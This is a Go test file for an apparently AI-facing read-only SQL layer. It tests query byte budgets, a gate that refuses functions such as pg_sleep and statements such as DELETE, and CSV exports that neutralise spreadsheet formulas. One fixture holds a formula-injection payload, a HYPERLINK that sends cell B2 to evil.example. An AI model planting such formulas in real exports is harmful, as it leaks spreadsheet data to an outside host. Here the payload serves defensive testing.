package readonly_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/analytics-bot/analytics-bot/readonly"
)

func TestQueryStopsAtTheByteBudget(t *testing.T) {
	t.Parallel()
	// A long timeout: the huge cell must be stopped by the message limit,
	// not by the statement timeout on a busy machine.
	f := setup(t, readonly.Options{MaxBytes: 2 << 20, Timeout: 30 * time.Second})
	ctx := context.Background()
	for _, sql := range []string{
		"SELECT repeat('x', 1000000) FROM generate_series(1, 700)", // many rows, each under the budget
		"SELECT repeat('x', 200000000)",                            // one cell over the message limit
		"SELECT repeat('x', 3000000)",                              // one cell over the budget, under the message limit
	} {
		res, err := f.ro.Query(ctx, sql)
		var sqlErr *readonly.SQLError
		if !errors.As(err, &sqlErr) {
			t.Fatalf("%s: got %v rows, err %v; want an SQL error", sql, res, err)
		}
		if !strings.Contains(sqlErr.Message, "aggregate or export instead") || !strings.Contains(sqlErr.Message, "MB") {
			t.Errorf("%s: message %q does not tell the model what to do", sql, sqlErr.Message)
		}
		assertHealthy(t, f)
	}
	// Under the budget, large cells still come back whole.
	res, err := f.ro.Query(ctx, "SELECT repeat('x', 500000) FROM generate_series(1, 3)")
	if err != nil || len(res.Rows) != 3 || len(res.Rows[0][0].(string)) != 500000 {
		t.Fatalf("result under the budget: %v", err)
	}
}

func TestGateAcceptsPlainQueries(t *testing.T) {
	t.Parallel()
	for _, sql := range []string{
		"SELECT 1",
		"select platform, sum(dau) from app_metrics group by 1 order by 2 desc limit 5",
		"WITH t AS (SELECT day FROM app_metrics) SELECT count(*) FROM t",
		"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r",
		"VALUES (1, 'a'), (2, 'b')",
		"TABLE app_metrics",
		"EXPLAIN SELECT * FROM app_metrics",
		"SELECT * FROM (SELECT lower(country) AS c FROM app_metrics) s WHERE c LIKE 'u%'",
		"SELECT 'txid_current()' AS looks_like_a_call, \"pg_sleep\" FROM (SELECT 1 AS pg_sleep) s",
		"SELECT date_trunc('week', day), string_agg(DISTINCT platform, ',') FROM app_metrics GROUP BY 1",
	} {
		if err := readonly.Gate(sql); err != nil {
			t.Errorf("%s: refused: %v", sql, err)
		}
	}
}

func TestGateErrorsHelpTheModel(t *testing.T) {
	t.Parallel()
	for sql, want := range map[string]string{
		"SELECT txid_current()":                "txid_current is not allowed",
		"SELECT pg_catalog.pg_sleep(1)":        "pg_catalog.pg_sleep is not allowed",
		"DELETE FROM app_metrics":              "Delete statements are not allowed",
		"SELECT 1; SELECT 2":                   "only one SQL statement",
		"SELECT * FROM app_metrics FOR UPDATE": "FOR UPDATE",
		"SELEC 1":                              "syntax error",
	} {
		err := readonly.Gate(sql)
		var sqlErr *readonly.SQLError
		if !errors.As(err, &sqlErr) || !strings.Contains(err.Error(), want) {
			t.Errorf("%s: err = %v, want an SQL error saying %q", sql, err, want)
		}
	}
}

func TestCopyCSVStopsAtTheByteBudget(t *testing.T) {
	t.Parallel()
	f := setup(t, readonly.Options{})
	var buf bytes.Buffer
	const budget = 3 << 20
	out, err := f.ro.CopyCSV(context.Background(), "SELECT g, repeat('x', 1000000) AS big FROM generate_series(1, 1000) g",
		&buf, readonly.ExportLimits{MaxRows: 1_000_000, MaxBytes: budget})
	if err != nil {
		t.Fatal(err)
	}
	if !out.CutAtBytes || !out.Cut() || out.Rows != 3 {
		t.Errorf("export = %+v, want cut at bytes after 3 whole rows", out)
	}
	if buf.Len() > budget || int64(buf.Len()) != out.Bytes || !bytes.HasSuffix(buf.Bytes(), []byte("\n")) {
		t.Errorf("file of %d bytes (reported %d) for a budget of %d, or not cut at a row's end", buf.Len(), out.Bytes, budget)
	}
	assertHealthy(t, f)
}

// formulaSQL returns cells that a spreadsheet would run, in every
// quoting PostgreSQL's CSV uses, next to ones it would not.
const formulaSQL = `SELECT * FROM (VALUES
	(1, '=HYPERLINK("https://evil.example/?x="&B2, "report")', -5, '+1', '-2'::text),
	(2, '@SUM(A1)', -1.5, E'\tindented', E'\rreturn'),
	(3, 'plain', 0, '', NULL),
	(4, E'=multi\nline', 7, '"=quoted"', 'a,=b'),
	(5, '-', 8, '=', '@')
) AS t("=id", note, amount, extra, other) ORDER BY 1`

func TestCopyCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	f := setup(t, readonly.Options{})
	var buf bytes.Buffer
	if _, err := f.ro.CopyCSV(context.Background(), formulaSQL, &buf, readonly.ExportLimits{MaxRows: 100, MaxBytes: 1 << 20}); err != nil {
		t.Fatal(err)
	}
	want := strings.Join([]string{
		`=id,note,amount,extra,other`, // the header is never changed
		`1,"'=HYPERLINK(""https://evil.example/?x=""&B2, ""report"")",-5,'+1,'-2`,
		"2,'@SUM(A1),-1.5,'\tindented,\"'\rreturn\"",
		`3,plain,0,"",`,
		"4,\"'=multi\nline\",7,\"\"\"=quoted\"\"\",\"a,=b\"",
		`5,'-,8,'=,'@`,
	}, "\n") + "\n"
	if got := buf.String(); got != want {
		t.Errorf("CSV =\n%q\nwant\n%q", got, want)
	}
}

// TestCopyCSVMatchesPsqlCopy checks that, apart from the neutralised
// cells, the export is byte for byte what psql's \copy … csv header writes.
func TestCopyCSVMatchesPsqlCopy(t *testing.T) {
	t.Parallel()
	psql, err := exec.LookPath("psql")
	if err != nil {
		t.Skip("psql is not installed")
	}
	f := setup(t, readonly.Options{})
	sql := `SELECT day, platform, country, dau, revenue_usd, E'a "quoted", multi\nline' AS note, NULL AS nothing, '' AS empty FROM app_metrics ORDER BY 1, 2, 3`
	var ours bytes.Buffer
	if _, err := f.ro.CopyCSV(context.Background(), sql, &ours, readonly.ExportLimits{MaxRows: 1_000_000, MaxBytes: 1 << 30}); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(psql, "-X", "-q", "-v", "ON_ERROR_STOP=1", f.db.DSN(), "-c", fmt.Sprintf(`\copy (%s) TO STDOUT WITH (FORMAT csv, HEADER)`, sql))
	theirs, err := cmd.Output()
	if err != nil {
		t.Fatalf("psql: %v", err)
	}
	if !bytes.Equal(ours.Bytes(), theirs) {
		t.Errorf("export differs from psql \\copy: %d bytes vs %d", ours.Len(), len(theirs))
	}
}
